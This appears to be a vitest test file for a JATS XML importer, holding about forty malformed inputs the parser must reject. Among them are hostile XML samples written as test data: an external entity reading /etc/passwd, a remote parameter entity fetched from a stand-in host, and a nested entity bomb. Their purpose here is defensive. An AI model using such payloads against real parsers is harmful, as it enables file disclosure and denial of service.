import { expect, it } from 'vitest'
import { readJats } from '@/lib/backend/import/jats/read-jats'
import { jatsArticle } from '@/tests/support/jats'

const good = jatsArticle()
const bytes = (text: string, ...more: number[]) => Buffer.concat([Buffer.from(text), Buffer.from(more)])
const declared = (encoding: string, ...tail: number[]) =>
  bytes(good.replace('encoding="UTF-8"', `encoding="${encoding}"`).replace('</article>', ''), ...tail)
const utf16 = (text: string, marked: boolean) => Buffer.from((marked ? '\ufeff' : '') + text, 'utf16le')
const doctype = (inside: string) => good.replace('<article ', `<!DOCTYPE article [${inside}]><article `)
const nested = (tag: string) => jatsArticle({ body: `<${tag}>`.repeat(300) + `</${tag}>`.repeat(300) })

/**
 * Forty files that must be rejected: encodings, truncation, entities, depth, bombs, names, other content than articles.
 */
const FILES: [name: string, file: Buffer][] = [
  ...[0.05, 0.2, 0.4, 0.6, 0.8, 0.95].map((share): [string, Buffer] => [
    `cut at ${share}`,
    Buffer.from(good.slice(0, Math.floor(good.length * share))),
  ]),
  ...['utf-8', 'gbk', 'gb18030', 'big5', 'shift_jis', 'euc-kr', 'us-ascii', 'ISO646-US', 'utf-16'].map(
    (encoding): [string, Buffer] => [`not ${encoding}`, declared(encoding, 0xff, 0xff, 0x81)],
  ),
  ...['klingon', 'utf-99', 'x-none'].map((encoding): [string, Buffer] => [
    `declared ${encoding}`,
    declared(encoding),
  ]),
  ['GBK declared as UTF-8', bytes(good.replace('Text.', 'Lamp '), 0xb9, 0xe2)],
  ['UTF-8 declared as GBK', Buffer.from(good.replace('UTF-8', 'GBK').replace('Text.', '光'))],
  ['UTF-8 declared as UTF-16', Buffer.from(good.replace('UTF-8', 'UTF-16'))],
  ['UTF-16 cut within a character', utf16(good, true).subarray(0, -1)],
  ['half a pair of UTF-16', Buffer.concat([utf16(good, true), Buffer.from([0x00, 0xd8])])],
  ['a byte of Latin-1', bytes(good.replace('Text.', 'Universit'), 0xe4)],
  ['half a character', bytes('<article>', 0xe5, 0x85)],
  ...[
    '<!ENTITY a "b">',
    '<!ENTITY x SYSTEM "file:///etc/passwd">',
    '<!ENTITY % p SYSTEM "http://a.example/p">%p;',
  ].map((inside): [string, Buffer] => [`entity ${inside}`, Buffer.from(doctype(inside))]),
  ['a bomb', Buffer.from(doctype('<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;"><!ENTITY c "&b;&b;&b;">'))],
  ...['sec', 'list', 'italic', 'odd-one'].map((tag): [string, Buffer] => [
    `deep ${tag}`,
    Buffer.from(nested(tag)),
  ]),
  ['ten thousand deep', Buffer.from(jatsArticle({ body: '<sec>'.repeat(10_000) + '</sec>'.repeat(10_000) }))],
  ['a name of a million letters', Buffer.from(good.replace('<body>', `<body><${'p'.repeat(1_000_000)}>`))],
  ['too large', Buffer.concat([Buffer.from(good), Buffer.alloc(21 * 1024 * 1024, 0x20)])],
  ...['', ' ', 'plain words', '{"json": true}', '%PDF-1.4', 'PK\u0003\u0004'].map(
    (text): [string, Buffer] => [`no XML: ${text.slice(0, 8)}`, Buffer.from(text)],
  ),
  ...['<html><body/></html>', '<article/>', '<article><front/></article>', '<book/>'].map(
    (text): [string, Buffer] => [`other: ${text}`, Buffer.from(text)],
  ),
  ['a DTD alone', Buffer.from('<!DOCTYPE article PUBLIC "a" "b">')],
  ['zeros', Buffer.alloc(1000)],
  ['words before', Buffer.from(`words ${good}`)],
  ['words behind', Buffer.from(`${good} words`)],
  ['a list of articles', Buffer.from(`<articles>${good.replace(/^<\?.*\?>/, '')}</articles>`)],
  ['code without an end', Buffer.from(good.replace('Text.', '<![CDATA[ Text.'))],
  ['crossed tags', Buffer.from(good.replace('<p>Text.</p>', '<p><b>Text.</p></b>'))],
  ['two roots', Buffer.from(`${good}<article/>`)],
  ['an attribute twice', Buffer.from(good.replace('<body>', '<body id="a" id="b">'))],
  ['an attribute without an end', Buffer.from(good.replace('<body>', '<body id="a>'))],
]

it('knows forty files and more that are malformed', () => {
  expect(FILES.length).toBeGreaterThanOrEqual(40)
})

it.each(FILES)('refuses a file with its place and what to do: %s', (_name, file) => {
  let reason = ''
  try {
    readJats(file)
  } catch (error) {
    reason = (error as Error).message
  }
  expect(reason).toMatch(/^(line \d+: |the file (is larger|declares))/)
  expect(reason).toMatch(/[;:] (mend|declare|save|write|take|flatten|import)/)
  expect(reason.length).toBeLessThan(400)
})

it.each([true, false])('reads UTF-16 of both orders, with a mark of the order: %s', (marked) => {
  const source = good.replace('UTF-8', 'UTF-16').replace('Text.', 'ü 光')
  for (const file of [utf16(source, marked), Buffer.from(utf16(source, marked)).swap16()])
    expect(readJats(file).article.fullText?.html).toBe('<p>ü 光</p>')
})

it('reports a named character nobody defines, once and with its line', () => {
  const { article, warnings } = readJats(jatsArticle({ body: '<p>a&nbsp;b</p>\n<p>&foo; &foo; &amp;</p>' }))
  expect(article.fullText?.html).toContain('<p>&amp;foo; &amp;foo; &amp;</p>')
  expect(warnings.map(({ message }) => message)).toEqual([
    'line 8: &foo; is not a character that JATS names; it is shown as written: use the character itself',
  ])
})

it('reads thousands of attributes, and makes no anchor of an endless id', () => {
  const attributes = Array.from({ length: 5000 }, (_, at) => `a${at}="x"`).join(' ')
  const body = `<p ${attributes} id="${'x'.repeat(100_000)}">Text.</p>`
  expect(readJats(jatsArticle({ body })).article.fullText?.html).toMatch(/^<p id="x{200}">Text\.<\/p>$/)
})
